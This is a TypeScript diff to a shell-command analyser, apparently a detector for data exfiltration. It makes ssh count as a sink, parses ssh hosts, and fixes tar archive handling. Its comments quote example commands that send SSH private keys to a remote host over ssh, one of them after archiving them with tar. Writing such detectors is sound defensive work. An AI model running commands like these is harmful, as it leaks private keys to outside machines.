@@ -484,6 +484,13 @@ export class BashWalker extends WalkerBase {
       for (const word of words.slice(1)) this.reachSink(word.value, sink, 'dns');
       return EMPTY;
     }
+    // `ssh host 'cat > k' < ~/.ssh/id_rsa`, `tar cz ~/.ssh | ssh host …`: ssh sends its standard
+    // input to the remote command.
+    if (program === 'ssh') {
+      const host = sshHost(texts);
+      if (host && !isLocalHost(host)) this.reachSink(stdin, this.recorder.sink('command', `\`ssh\` to ${host}`, node.startIndex, node.endIndex, host), 'payload');
+      return EMPTY;
+    }
     if (/^(?:scp|sftp|rsync)$/.test(program)) {
       const remote = texts.slice(1).find((text) => /^[^/\s]*@?[\w.-]+:/.test(text) && !/^[a-z]+:\/\//i.test(text));
       if (remote) {
@@ -553,9 +560,11 @@ export class BashWalker extends WalkerBase {
     }
     if (/^(?:tar|zip|7z)$/.test(program)) {
       // An archive of sensitive files carries their content under the archive's name.
-      const operands = words.slice(1).filter((word) => !(word.value.text ?? '').startsWith('-'));
-      const archiveIndex = program === 'tar' ? words.findIndex((word) => /^-?[a-z]*f$/.test(word.value.text ?? '')) + 1 : 1;
-      const archive = program === 'tar' ? words[archiveIndex] : operands[0];
+      // A tar's first word is its mode (`cz`, `-czf`), not a file.
+      const operands = words.slice(program === 'tar' ? 2 : 1).filter((word) => !(word.value.text ?? '').startsWith('-'));
+      // `tar` with no `f` writes the archive to standard output (`tar cz ~/.ssh | ssh host …`).
+      const archiveFlag = program === 'tar' ? words.findIndex((word) => /^-?[a-z]*f$/.test(word.value.text ?? '')) : 0;
+      const archive = program === 'tar' ? (archiveFlag > 0 ? words[archiveFlag + 1] : undefined) : operands[0];
       const inputs = operands.filter((word) => word !== archive);
       const content = union(...inputs.map((word) => this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex)));
       if (archive && archive.value.text !== '-') this.recorder.writeFile(archive.value.text, content, node.startIndex, node.endIndex);
@@ -851,6 +860,26 @@ function translate(text: string, from: string, to: string): string | undefined {
   const map = new Map<string, string>();
   source.forEach((character, index) => map.set(character, target[Math.min(index, target.length - 1)] ?? character));
   return [...text].map((character) => map.get(character) ?? character).join('');
+}
+
+/** ssh's options that take a value, so that the value is not read as the host. */
+const SSH_VALUE_OPTION = /^-[bcDEeFIiJLlmOopQRSWw]$/;
+
+/** The host an `ssh` command connects to (`user@host` gives `host`), if it names one. */
+function sshHost(texts: readonly string[]): string | undefined {
+  for (let index = 1; index < texts.length; index++) {
+    const text = texts[index] ?? '';
+    if (text.startsWith('-')) {
+      if (SSH_VALUE_OPTION.test(text)) index++;
+      continue;
+    }
+    return text === '*' ? undefined : text.replace(/^[^@]*@/, '');
+  }
+  return undefined;
+}
+
+function isLocalHost(host: string): boolean {
+  return /^(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|::1)$/i.test(host);
 }
 
 function spaced(words: readonly { readonly value: AbstractValue }[]): AbstractValue {
